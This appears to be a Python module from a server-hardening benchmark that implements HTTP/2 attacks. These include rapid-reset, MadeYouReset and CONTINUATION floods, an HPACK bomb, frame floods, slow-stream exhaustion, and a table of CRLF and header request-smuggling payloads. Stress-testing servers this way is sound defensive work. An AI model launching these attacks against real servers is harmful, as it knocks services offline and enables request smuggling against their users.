"""Attacks of HTTP/2: what one connection of each does."""

from __future__ import annotations

import asyncio
from collections.abc import Callable, Iterator, Mapping

from bench.abuse import frames
from bench.abuse.attack import Attack, Visit, Wire
from bench.abuse.frames import FrameReader, Kind

BEGIN = frames.PREFACE + frames.settings()
# Frames that are handed over at a time, and streams.
FRAMES, STREAMS = 2000, 100
# Of the slow uploads and downloads: so many streams, a byte each every so many seconds.
SLOW_STREAMS = 40
UPLOAD_SECONDS, DOWNLOAD_SECONDS = 5.0, 4.0

HEAD = frames.request(b"/")
_UPLOAD = frames.request(b"/upload", (b"content-length", b"1000000"), method=b"POST")


def flood(blob: bytes, begin: bytes = b"") -> Visit:
    """The same frames as fast as the other side takes them; what it answers is read."""

    async def visit(wire: Wire) -> None:
        async with wire.discarding():
            await wire.send(BEGIN + begin)
            while True:
                await wire.send(blob)

    return visit


def streams(make: Callable[[int], bytes]) -> Visit:
    """New streams as fast as the other side takes them, each made by ``make`` from its number."""

    async def visit(wire: Wire) -> None:
        async with wire.discarding():
            await wire.send(BEGIN)
            number = 1
            while number < 1 << 31:
                await wire.send(b"".join(map(make, range(number, number + 2 * STREAMS, 2))))
                number += 2 * STREAMS

    return visit


def rapid_reset(stream: int) -> bytes:
    """CVE-2023-44487."""
    return frames.headers(stream, HEAD) + frames.reset(stream)


def made_you_reset(stream: int) -> bytes:
    """CVE-2025-8671: a window update of 0 is an error of the stream, so the server is the one that resets it."""
    return frames.headers(stream, HEAD) + frames.window_update(0, stream)


def size_updates(stream: int) -> bytes:
    """A head behind as many updates of the table's size as a frame holds; RFC 7541 section 4.2 allows two."""
    updates = frames.table_size_update(0) * (frames.MAX_PAYLOAD - len(HEAD))
    return frames.headers(stream, updates + HEAD)


def hpack_bomb(stream: int) -> bytes:
    return frames.headers(stream, frames.bomb(b"/"))


def _continuation() -> bytes:
    """CVE-2024-27316."""
    return frames.frame(Kind.CONTINUATION, frames.literal(b"x-a", b"b"), stream=1) * FRAMES


async def _ended(wire: Wire, reader: FrameReader) -> int:
    """How many streams the other side has reset with what it has sent now; settings and pings are acknowledged."""
    resets = 0
    for it in reader.feed(await wire.read()):
        resets += it.kind == Kind.RST_STREAM
        if it.kind in (Kind.SETTINGS, Kind.PING) and not it.flags & frames.ACK:
            await wire.send(frames.frame(it.kind, it.payload if it.kind == Kind.PING else b"", frames.ACK))
    return resets


def _each_slow_stream() -> Iterator[int]:
    yield from range(1, 2 * SLOW_STREAMS, 2)


async def _slowly(wire: Wire, piece: Callable[[int], bytes], seconds: float) -> None:
    """A piece on every stream every so many seconds, while resets are counted."""
    reader = FrameReader()

    async def count() -> None:
        while True:
            wire.tally.ended += await _ended(wire, reader)

    counting = asyncio.create_task(count())
    try:
        while not counting.done():
            await wire.send(b"".join(map(piece, _each_slow_stream())))
            await asyncio.wait([counting], timeout=seconds)
        await counting
    finally:
        counting.cancel()


async def slow_uploads(wire: Wire) -> None:
    await wire.send(BEGIN + b"".join(frames.headers(it, _UPLOAD, end=False) for it in _each_slow_stream()))
    await _slowly(wire, lambda stream: frames.frame(Kind.DATA, b"x", stream=stream), UPLOAD_SECONDS)


async def slow_downloads(wire: Wire) -> None:
    begin = frames.PREFACE + frames.settings((frames.INITIAL_WINDOW_SIZE, 1))
    head = frames.request(b"/16m")
    await wire.send(begin + b"".join(frames.headers(it, head) for it in _each_slow_stream()))
    await _slowly(wire, lambda stream: frames.window_update(1, stream), DOWNLOAD_SECONDS)


_INNER = b"GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"
_CHUNKED = b"0\r\n\r\n" + _INNER
# Fields of a request, and its body: what a proxy that writes it down for HTTP/1.1 as it came makes two requests of.
SMUGGLING: Mapping[str, tuple[list[tuple[bytes, bytes]], bytes]] = {
    "chunked": ([(b"transfer-encoding", b"chunked")], _CHUNKED),
    "length and chunked": ([(b"content-length", b"5"), (b"transfer-encoding", b"chunked")], _CHUNKED),
    "two lengths": ([(b"content-length", b"0"), (b"content-length", b"36")], _INNER),
    "CRLF in a value": ([(b"x", b"y\r\n\r\n" + _INNER)], b""),
    "LF in a value": ([(b"x", b"y\ntransfer-encoding: chunked")], _CHUNKED),
    "NUL in a value": ([(b"x", b"y\0z")], b""),
    "CRLF in a name": ([(b"x: y\r\ntransfer-encoding", b"chunked")], _CHUNKED),
    "colon in a name": ([(b"transfer-encoding:", b"chunked")], _CHUNKED),
    "space in a name": ([(b"transfer-encoding ", b"chunked")], _CHUNKED),
    "upper case in a name": ([(b"Transfer-Encoding", b"chunked")], _CHUNKED),
    "connection": ([(b"connection", b"content-length"), (b"content-length", b"36")], _INNER),
    "upgrade": ([(b"upgrade", b"h2c"), (b"connection", b"upgrade")], b""),
    "CRLF in the path": ([(b":path", b"/smuggle HTTP/1.1\r\nHost: a\r\n\r\nGET /smuggled")], b""),
    "space in the path": ([(b":path", b"/smuggle HTTP/1.1 x")], b""),
    "CRLF in the method": ([(b":method", b"GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\nGET")], b""),
    "space in the method": ([(b":method", b"GET /smuggled HTTP/1.1 x")], b""),
    "CRLF in the authority": ([(b":authority", b"a\r\n\r\n" + _INNER)], b""),
}


def smuggled(fields: list[tuple[bytes, bytes]], body: bytes) -> bytes:
    """The frames of one case of ``SMUGGLING``, on the first stream."""
    pseudo = {b":method": b"POST", b":scheme": b"https", b":authority": b"a", b":path": b"/smuggle"}
    given = dict(fields)
    head = [(name, given.get(name, value)) for name, value in pseudo.items()]
    block = b"".join(frames.literal(*it) for it in (*head, *(it for it in fields if it[0] not in pseudo)))
    data = frames.frame(Kind.DATA, body, frames.END_STREAM, 1) if body else b""
    return frames.headers(1, block, end=not body) + data


async def smuggling(wire: Wire) -> None:
    """The cases in turn, one a connection."""
    cases = list(SMUGGLING.values())
    await wire.send(BEGIN + smuggled(*cases[wire.number % len(cases)]))
    reader = FrameReader()
    try:
        async with asyncio.timeout(0.2):
            while not await _ended(wire, reader):
                pass
    except TimeoutError:
        return
    wire.tally.ended += 1


async def garbage(wire: Wire) -> None:
    """Frames of unknown kinds on unknown streams are to be ignored (RFC 9113 section 5.5): first those, then worse."""
    async with wire.discarding():
        await wire.send(BEGIN + frames.frame(0xFA, bytes(1000), 0xFF, 0x7FFFFFFF) * 50)
        while True:
            await wire.send(bytes(range(256)) * 256)


def _h2(visit: Visit, *, once: bool = False) -> Attack:
    return Attack(visit, tls="h2", once=once)


HTTP2: Mapping[str, Attack] = {
    "ping": _h2(flood(frames.frame(Kind.PING, bytes(8)) * FRAMES)),
    "settings": _h2(flood(frames.settings((frames.INITIAL_WINDOW_SIZE, 65535)) * FRAMES)),
    "table-size": _h2(
        flood(
            (frames.settings((frames.HEADER_TABLE_SIZE, 0)) + frames.settings((frames.HEADER_TABLE_SIZE, 4096))) * 1000
        )
    ),
    "size-updates": _h2(streams(size_updates)),
    "window-update": _h2(flood(frames.window_update(1) * FRAMES)),
    "priority": _h2(flood(b"".join(map(frames.priority, range(1, 2 * FRAMES, 2))))),
    "empty-data": _h2(
        flood(frames.frame(Kind.DATA, stream=1) * FRAMES, frames.headers(1, _UPLOAD, end=False)),
    ),
    "rapid-reset": _h2(streams(rapid_reset)),
    "made-you-reset": _h2(streams(made_you_reset)),
    "continuation": _h2(flood(_continuation(), frames.headers(1, HEAD, whole=False))),
    "hpack-bomb": _h2(streams(hpack_bomb)),
    "slow-uploads": _h2(slow_uploads, once=True),
    "slow-downloads": _h2(slow_downloads, once=True),
    "smuggling": _h2(smuggling),
    "garbage-h2": _h2(garbage),
}
